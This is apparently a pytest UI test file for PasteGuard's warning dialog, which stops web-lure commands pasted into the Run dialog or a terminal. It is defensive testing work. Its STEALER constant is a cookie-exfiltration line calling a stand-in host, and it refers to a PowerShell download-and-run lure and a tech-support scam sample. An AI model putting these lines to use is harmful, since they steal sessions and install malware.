"""The warning dialog: on top within 200 ms, plain words, and every choice logged with its effect."""

from __future__ import annotations

import json
import threading
import time
from pathlib import Path

import pytest
from PySide6.QtCore import Qt, QUrl
from pytestqt.qtbot import QtBot

from app.config import load_config
from app.detection.model import PasteTarget
from app.platform.base import KeyEvent
from tests.ui.conftest import (
    MALICIOUS,
    PAGE,
    SUSPICIOUS,
    WINDOWS,
    clipboard_text,
    copy,
    press_paste,
    write_policy,
)
from ui.application import GuardApp
from ui.warning.dialog import REFLEX_MS, STATUS_HOLD_MS


def kinds(guard: GuardApp) -> list[str]:
    guard.service.process_pending()  # the choices' events are written by the guard's worker
    return [e.kind for e in guard.store.query(limit=50)]


def last(guard: GuardApp) -> dict[str, object]:
    guard.service.process_pending()
    return guard.store.query(limit=1)[0].to_record()


def warned(guard: GuardApp, qtbot: QtBot, text: str = MALICIOUS, source: str | None = PAGE,
           target: PasteTarget = PasteTarget.RUN_DIALOG) -> None:  # fmt: skip
    copy(guard, text, source)
    press_paste(guard, target)
    qtbot.waitUntil(guard.warning.isActiveWindow, timeout=2000)


def after_reflex(qtbot: QtBot) -> None:
    qtbot.wait(REFLEX_MS + 50)


@pytest.fixture
def warn_mode(profile: Path) -> None:
    # block mode neutralises a malicious clipboard at once; warn mode shows the dialog for it
    write_policy(profile, 'mode = "warn"\n')


def test_the_warning_comes_up_on_top_and_focused_from_the_hook_thread(
    make_guard, qtbot: QtBot, warn_mode: None
) -> None:
    guard: GuardApp = make_guard()
    copy(guard, MALICIOUS)
    guard.service.foreground = lambda: WINDOWS[PasteTarget.RUN_DIALOG]
    now = time.monotonic()

    def hook_thread() -> None:  # the OS hook thread, as pynput calls it
        guard.service.on_key(KeyEvent("ctrl", True, frozenset({"ctrl"}), now))
        guard.service.on_key(KeyEvent("v", True, frozenset({"ctrl"}), now + 0.01))

    threading.Thread(target=hook_thread).start()
    # how soon is measured in bench/guard.py (Ctrl+V in xterm to the warning, p95 <= 200 ms)
    qtbot.waitUntil(lambda: guard.warning.isVisible() and guard.warning.isActiveWindow(),
                    timeout=5000)  # fmt: skip
    assert guard.warning.windowFlags() & Qt.WindowType.WindowStaysOnTopHint
    assert guard.warning.focusWidget() is guard.warning.keep


def test_it_says_in_plain_words_what_where_from_and_where_to(
    make_guard, qtbot: QtBot, warn_mode: None
) -> None:
    guard: GuardApp = make_guard()
    warned(guard, qtbot)
    dialog = guard.warning
    assert dialog.call.text() == "Don't paste this"
    assert dialog.rest.text() == (
        "A web page put a command on your clipboard that would download and run a program."
    )
    assert dialog.source.text() == "captcha[.]example"  # the host: what a person can check
    assert dialog.target.text() == "the Run dialog (Win+R)"
    qtbot.waitUntil(lambda: dialog.status.text().startswith("PasteGuard stopped the paste"))
    shown = dialog.command.toPlainText()
    assert "hxxps://x[.]example/a.ps1" in shown and "https://" not in shown
    assert "[… 60 spaces …]" in shown and " " * 20 not in shown
    assert "hidden padding" in dialog.legend.text() and "I am not a robot" in dialog.legend.text()
    assert dialog.accessibleName().startswith("Don't paste this: a web page put a command")


def test_a_paste_the_os_let_go_on_after_all_is_no_longer_called_stopped(
    make_guard, qtbot: QtBot, warn_mode: None
) -> None:
    """macOS passed the V on because the event tap answered too late: the same warning, still
    up, says the text may be there (the guard's report comes from the hook thread)."""
    guard: GuardApp = make_guard()
    warned(guard, qtbot)
    dialog = guard.warning
    qtbot.waitUntil(lambda: dialog.status.text().startswith("PasteGuard stopped the paste"))
    v = KeyEvent("v", True, frozenset({"ctrl"}), time.monotonic(), passed_on=True)
    threading.Thread(target=guard.service.on_key, args=(v,)).start()
    qtbot.waitUntil(lambda: "may already be there" in dialog.status.text(), timeout=2000)
    assert dialog.isVisible() and dialog.times == 1  # no second paste was counted
    assert dialog.warning is not None and not dialog.warning.suppressed


def test_a_late_answer_reported_at_once_never_shows_the_paste_as_stopped(
    make_guard, qtbot: QtBot, warn_mode: None
) -> None:
    """Windows reports a key the hook answered too late in the same hook call, macOS on the
    tap's next turn: the warning's outcome line waits for that, so it never says "stopped" of
    a paste that went through (before, it did, then corrected itself)."""
    guard: GuardApp = make_guard()
    copy(guard, MALICIOUS)
    guard.service.foreground = lambda: WINDOWS[PasteTarget.RUN_DIALOG]
    dialog = guard.warning
    said: list[str] = []
    set_text = dialog.status.setText

    def record(text: str) -> None:
        said.append(text)
        set_text(text)

    dialog.status.setText = record  # type: ignore[method-assign]
    now = time.monotonic()

    def hook_thread() -> None:  # the key swallowed, then the OS says it went on anyway
        guard.service.on_key(KeyEvent("ctrl", True, frozenset({"ctrl"}), now))
        assert guard.service.on_key(KeyEvent("v", True, frozenset({"ctrl"}), now + 0.01))
        guard.service.on_key(KeyEvent("v", True, frozenset({"ctrl"}), now + 0.01, passed_on=True))

    threading.Thread(target=hook_thread).start()
    qtbot.waitUntil(lambda: "may already be there" in dialog.status.text(), timeout=2000)
    qtbot.wait(STATUS_HOLD_MS + 100)  # the barrier: the hold is over
    assert "may already be there" in dialog.status.text() and dialog.times == 1
    assert not [t for t in said if t.startswith("PasteGuard stopped")], said


def test_why_shows_the_findings_with_their_attack_techniques(
    make_guard, qtbot: QtBot, warn_mode: None
) -> None:
    guard: GuardApp = make_guard()
    warned(guard, qtbot)
    assert not guard.warning.reasons.isVisible()
    qtbot.mouseClick(guard.warning.why, Qt.MouseButton.LeftButton)
    assert guard.warning.reasons.isVisible()
    reasons = guard.warning.reasons.toPlainText()
    assert "PowerShell downloads code and runs it at once" in reasons
    assert "ATT&CK T1059.001 (Command and Scripting Interpreter)" in reasons
    assert "ATT&CK T1204.004" in reasons and "hxxps://x[.]example/a.ps1" in reasons


STEALER = "fetch('https://grab.example/t?c='+document.cookie)"


def test_a_stealer_headline_names_the_host_never_a_placeholder(
    make_guard, qtbot: QtBot, warn_mode: None
) -> None:
    guard: GuardApp = make_guard()
    warned(guard, qtbot, "javascript:" + STEALER, "https://free-nitro.example/",
           PasteTarget.TERMINAL)  # fmt: skip
    dialog = guard.warning
    shown = [dialog.call.text(), dialog.rest.text(), dialog.summary.text(),
             dialog.accessibleName(), dialog.accessibleDescription()]  # fmt: skip
    assert not any("{" in text for text in shown), shown
    assert "grab[.]example" in dialog.rest.text()


@pytest.mark.parametrize("kind", ["text", "scam-text"])  # judged here, or said by the engine
def test_a_tech_support_scam_text_says_scam_and_marks_the_number(
    make_guard, qtbot: QtBot, warn_mode: None, kind: str
) -> None:
    from app.detection.model import Indicator, Level, Verdict
    from app.guard.service import PasteWarning, digest

    scam = "Microsoft Security: your computer is blocked. Call support now: +1 888 555 0199"
    verdict = Verdict(Level.SUSPICIOUS, 55, "A tech-support scam.", kind=kind,
                      indicators=[Indicator("phone", "+1 888 555 0199", "+1 888 555 0199")])  # fmt: skip
    guard: GuardApp = make_guard()
    copy(guard, scam, PAGE)
    warning = PasteWarning(verdict=verdict, target=PasteTarget.OTHER, source=PAGE, window=None,
                           suppressed=True, neutralized=False, allow_paste_anyway=True,
                           digest=digest(scam))  # fmt: skip
    guard.warning.present(warning)
    dialog = guard.warning
    assert dialog.call.text() == "This is a scam"
    assert "call a number" in dialog.rest.text() and "command" not in dialog.rest.text()
    assert dialog.advice.text().startswith("Don't call the number")
    assert "Don't run it" not in dialog.advice.text()
    assert "phone number" in dialog.legend.text()
    html_text = dialog.command.toHtml()
    assert "underline" in html_text and "0199" in dialog.command.toPlainText()


def test_enter_keeps_me_safe_and_is_logged(make_guard, qtbot: QtBot, warn_mode: None) -> None:
    guard: GuardApp = make_guard()
    warned(guard, qtbot)
    after_reflex(qtbot)
    qtbot.keyClick(guard.warning.focusWidget(), Qt.Key.Key_Return)
    assert not guard.warning.isVisible()
    record = last(guard)
    assert record["kind"] == "warning_heeded" and record["details"]["choice"] == "keep_safe"
    assert record["level"] == "malicious" and record["target"] == "run_dialog"
    assert record["text"] is None  # the flagged event holds the text; choices never repeat it
    assert clipboard_text() == MALICIOUS  # nothing was released
    assert press_paste(guard) is True  # and the next paste is stopped again


def test_the_enter_the_lure_asked_for_does_not_dismiss_the_warning_unread(
    make_guard, qtbot: QtBot, warn_mode: None
) -> None:
    guard: GuardApp = make_guard()
    warned(guard, qtbot)
    qtbot.keyClick(guard.warning.focusWidget(), Qt.Key.Key_Return)
    assert guard.warning.isVisible()
    assert "keep_safe" not in json.dumps([e.details for e in guard.store.query(limit=5)])


def test_escape_keeps_me_safe_at_once(make_guard, qtbot: QtBot, warn_mode: None) -> None:
    guard: GuardApp = make_guard()
    warned(guard, qtbot)
    qtbot.keyClick(guard.warning.focusWidget(), Qt.Key.Key_Escape)
    assert not guard.warning.isVisible()
    assert last(guard)["details"]["choice"] == "keep_safe"  # type: ignore[index]


def test_paste_anyway_on_malicious_needs_a_second_step_then_releases_the_text(
    make_guard, qtbot: QtBot, warn_mode: None
) -> None:
    guard: GuardApp = make_guard()
    warned(guard, qtbot)
    dialog = guard.warning
    assert dialog.paste.isVisible() and not dialog.paste.isEnabled()
    qtbot.mouseClick(dialog.paste, Qt.MouseButton.LeftButton)
    assert dialog.isVisible()  # a disabled button does nothing
    qtbot.keyClick(dialog.understand, Qt.Key.Key_Space)  # keyboard only
    assert dialog.paste.isEnabled()
    after_reflex(qtbot)
    dialog.paste.setFocus()
    qtbot.keyClick(dialog.paste, Qt.Key.Key_Return)
    assert not dialog.isVisible()
    record = last(guard)
    assert record["kind"] == "paste_allowed_by_user" and record["action"] == "allowed"
    assert clipboard_text() == MALICIOUS
    assert press_paste(guard) is False  # let through once


def test_paste_anyway_is_absent_when_the_policy_forbids_it(
    make_guard, qtbot: QtBot, profile: Path
) -> None:
    write_policy(profile, 'mode = "warn"\nallow_paste_anyway = false\n')
    guard: GuardApp = make_guard()
    warned(guard, qtbot)
    assert not guard.warning.paste.isVisible() and not guard.warning.understand.isVisible()
    assert guard.paste_anyway(guard.warning.warning).ok is False  # type: ignore[arg-type]
    assert "paste_allowed_by_user" not in kinds(guard)


def test_suspicious_paste_anyway_is_one_click(make_guard, qtbot: QtBot) -> None:
    guard: GuardApp = make_guard()
    warned(guard, qtbot, SUSPICIOUS, "https://howto.example.net/docs", PasteTarget.TERMINAL)
    dialog = guard.warning
    assert dialog.call.text() == "Check this first"
    assert dialog.paste.isEnabled() and not dialog.understand.isVisible()
    qtbot.mouseClick(dialog.paste, Qt.MouseButton.LeftButton)
    assert last(guard)["kind"] == "paste_allowed_by_user"
    assert clipboard_text() == SUSPICIOUS


def test_trust_this_site_is_scoped_dated_and_lets_the_paste_through(
    make_guard, qtbot: QtBot, profile: Path
) -> None:
    guard: GuardApp = make_guard()
    page = "https://docs.example.net/install"  # not the script's site: nobody vouches for it
    warned(guard, qtbot, SUSPICIOUS, page, PasteTarget.TERMINAL)
    assert guard.warning.trust.isVisible()
    scopes = [a.text() for a in guard.warning.trust_menu.actions()]
    assert scopes == ["Only this text, once", "This site for 7 days",
                      "This site until PasteGuard restarts"]  # fmt: skip
    guard.warning.trust_menu.actions()[1].trigger()
    assert not guard.warning.isVisible()
    record = last(guard)
    assert record["kind"] == "site_trusted"
    details = record["details"]
    assert details["site"] == "docs.example.net"  # type: ignore[index]
    assert details["scope"] == "days" and details["days"] == 7  # type: ignore[index]
    (grant,) = guard.service.grants.all
    assert grant.until is not None and 6.9 * 86400 < grant.until - grant.granted <= 7 * 86400
    assert grant.reason  # why it was trusted
    # not a permanent setting any more
    saved = load_config(profile / "config", profile / "policy.toml", profile / "data")
    assert saved.settings.trusted_sites == ()
    assert press_paste(guard, PasteTarget.TERMINAL) is False  # trusted for now


def test_trust_is_never_offered_for_a_malicious_text(
    make_guard, qtbot: QtBot, warn_mode: None
) -> None:
    guard: GuardApp = make_guard()
    warned(guard, qtbot, MALICIOUS, "https://docs.unknown-vendor.example/install")
    assert not guard.warning.trust.isVisible()
    assert guard.outcomes.trust_site(guard.warning.warning, "days").ok is False  # type: ignore[arg-type]


def test_trust_this_site_is_not_offered_for_malicious_text(
    make_guard, qtbot: QtBot, warn_mode: None
) -> None:
    guard: GuardApp = make_guard()
    warned(guard, qtbot)
    assert not guard.warning.trust.isVisible()
    assert guard.outcomes.trust_site(guard.warning.warning).ok is False  # type: ignore[arg-type]


def test_trust_this_site_is_not_offered_when_the_policy_locks_the_list(
    make_guard, qtbot: QtBot, profile: Path
) -> None:
    write_policy(profile, 'trusted_sites = ["intranet.example"]\n')
    guard: GuardApp = make_guard()
    warned(guard, qtbot, SUSPICIOUS, "https://docs.example.net/install", PasteTarget.TERMINAL)
    assert guard.warning.call.text() == "Check this first"  # suspicious: trust would be offered
    assert not guard.warning.trust.isVisible()


def test_report_to_it_writes_a_json_report_and_opens_a_mail_draft(
    make_guard, qtbot: QtBot, profile: Path
) -> None:
    write_policy(profile, 'mode = "warn"\nreport_mail_to = "it-security@corp.example"\n')
    guard: GuardApp = make_guard()
    opened: list[str] = []
    guard.outcomes.open_url = lambda url: opened.append(url.toString()) or True
    warned(guard, qtbot)
    qtbot.mouseClick(guard.warning.report, Qt.MouseButton.LeftButton)
    assert guard.warning.isVisible() and not guard.warning.report.isEnabled()  # one report
    record = last(guard)
    assert record["kind"] == "reported" and record["target"] == "run_dialog"
    path = Path(str(record["details"]["report"]))  # type: ignore[index]
    report = json.loads(path.read_text(encoding="utf-8"))
    assert path.parent == profile / "data" / "reports" and (path.stat().st_mode & 0o077) == 0
    assert report["level"] == "malicious" and report["source"] == PAGE
    assert "hxxps://x[.]example" in report["text"] and "https://x.example" not in report["text"]
    (link,) = opened
    url = QUrl(link)
    assert url.scheme() == "mailto" and url.path() == "it-security@corp.example"
    assert str(path) in url.query(QUrl.ComponentFormattingOption.FullyDecoded)
    assert clipboard_text() == MALICIOUS  # the draft took the report, not the clipboard
    said = guard.warning.result_note.toolTip()
    assert "it-security@corp.example" in said and "press Send" in said
    assert "Nothing was sent" not in said


def test_report_with_forwarding_says_a_copy_goes_to_the_security_log(
    make_guard, qtbot: QtBot, profile: Path
) -> None:
    write_policy(profile, 'mode = "warn"\n[forward]\nsyslog = "udp://127.0.0.1:9"\n')
    guard: GuardApp = make_guard()
    warned(guard, qtbot)
    qtbot.mouseClick(guard.warning.report, Qt.MouseButton.LeftButton)
    said = guard.warning.result_note.toolTip()
    assert "security log" in said and "Nothing was sent" not in said
    assert last(guard)["kind"] == "reported" and clipboard_text() == MALICIOUS


def test_report_without_a_mail_address_says_nothing_was_sent_and_keeps_the_clipboard(
    make_guard, qtbot: QtBot, warn_mode: None
) -> None:
    guard: GuardApp = make_guard()
    warned(guard, qtbot)
    qtbot.mouseClick(guard.warning.report, Qt.MouseButton.LeftButton)
    path = str(last(guard)["details"]["report"])  # type: ignore[index]
    said = guard.warning.result_note.toolTip()
    assert clipboard_text() == MALICIOUS and path in said
    assert "Nothing was sent" in said and "Send" not in said and "security log" not in said
    after_reflex(qtbot)
    qtbot.keyClick(guard.warning.focusWidget(), Qt.Key.Key_Return)  # focus went back to safety
    assert kinds(guard)[:2] == ["warning_heeded", "reported"]


def test_where_keys_cannot_be_swallowed_it_says_the_text_may_be_there(
    make_guard, qtbot: QtBot
) -> None:
    guard: GuardApp = make_guard(can_suppress=False)
    warned(guard, qtbot, SUSPICIOUS, "https://howto.example.net/docs", PasteTarget.TERMINAL)
    assert "may already be there" in guard.warning.status.text()
    # not "This system does not let PasteGuard stop the paste": on X11 the reason can as well
    # be PasteGuard's (a text it could not hold, a holder that stopped, warn mode)
    assert guard.warning.status.text().startswith("PasteGuard could not stop this paste")
    assert guard.warning.target.text() == "a terminal"
    qtbot.keyClick(guard.warning.focusWidget(), Qt.Key.Key_Escape)
    assert last(guard)["kind"] == "warning_heeded" and last(guard)["action"] == "warned"


def test_a_second_paste_of_the_same_text_brings_the_same_warning_back(
    make_guard, qtbot: QtBot, warn_mode: None
) -> None:
    guard: GuardApp = make_guard()
    warned(guard, qtbot)
    guard.warning.why.setChecked(True)
    press_paste(guard)
    assert guard.warning.times == 2 and guard.warning.why.isChecked()  # not reset under the reader


def test_every_control_has_a_name_for_screen_readers(
    make_guard, qtbot: QtBot, warn_mode: None
) -> None:
    guard: GuardApp = make_guard()
    warned(guard, qtbot)
    dialog = guard.warning
    for widget in (dialog.keep, dialog.paste, dialog.report, dialog.understand, dialog.why,
                   dialog.command, dialog.reasons, dialog.summary, dialog.source, dialog.target):  # fmt: skip
        assert widget.accessibleName(), widget
    assert dialog.paste.accessibleDescription().endswith("(not recommended)")


def test_in_a_dark_theme_every_sentence_of_the_warning_is_readable(
    make_guard, qtbot: QtBot, warn_mode: None
) -> None:
    from PySide6.QtWidgets import QApplication

    from tests.ui.contrast import dark_palette, rendered_contrast

    app = QApplication.instance()
    assert isinstance(app, QApplication)
    light = app.palette()
    app.setPalette(dark_palette())  # the desktop's dark theme
    try:
        guard: GuardApp = make_guard()
        warned(guard, qtbot)
        dialog = guard.warning
        assert dialog.advice.text().startswith("Close the window")
        qtbot.waitUntil(lambda: bool(dialog.status.text()))  # the outcome line, once known
        for label in (dialog.advice, dialog.call, dialog.rest, dialog.status, dialog.summary):
            assert rendered_contrast(label) >= 4.5, label.objectName() or label.text()
    finally:
        app.setPalette(light)


def test_an_emoji_no_font_can_draw_is_shown_as_a_plain_mark(
    make_guard, qtbot: QtBot, warn_mode: None
) -> None:
    from ui.warning.dialog import has_glyph

    guard: GuardApp = make_guard()
    warned(guard, qtbot)  # the lure's tail says "# ✅ I am not a robot"
    shown = guard.warning.command.toPlainText()
    if has_glyph("\u2705"):
        assert "\u2705" in shown
    else:  # as on this test machine: a check mark every font has, not a missing-glyph box
        assert "\u2705" not in shown and "# \u2713 I am not a robot" in shown


def test_the_warning_speaks_the_language_set_including_the_rules_words(
    make_guard, qtbot: QtBot, profile: Path
) -> None:
    write_policy(profile, 'mode = "warn"\nlanguage = "de"\n')
    guard: GuardApp = make_guard()  # installs the German translator, as at start
    try:
        warned(guard, qtbot)
        dialog = guard.warning
        assert dialog.call.text() == "Nicht einfügen"
        assert dialog.rest.text() == (
            "Eine Webseite hat einen Befehl in Ihre Zwischenablage gelegt, der ein Programm "
            "herunterladen und ausführen würde."
        )
        assert dialog.keep.text() == "Schutz behalten"
        assert "[… 60 Leerzeichen …]" in dialog.command.toPlainText()
        qtbot.mouseClick(dialog.why, Qt.MouseButton.LeftButton)
        assert "PowerShell lädt Code herunter und führt ihn sofort aus" in (
            dialog.reasons.toPlainText()
        )
    finally:
        from PySide6.QtWidgets import QApplication

        from ui.i18n import uninstall_translators

        uninstall_translators(QApplication.instance(), guard.translator)  # type: ignore[arg-type]
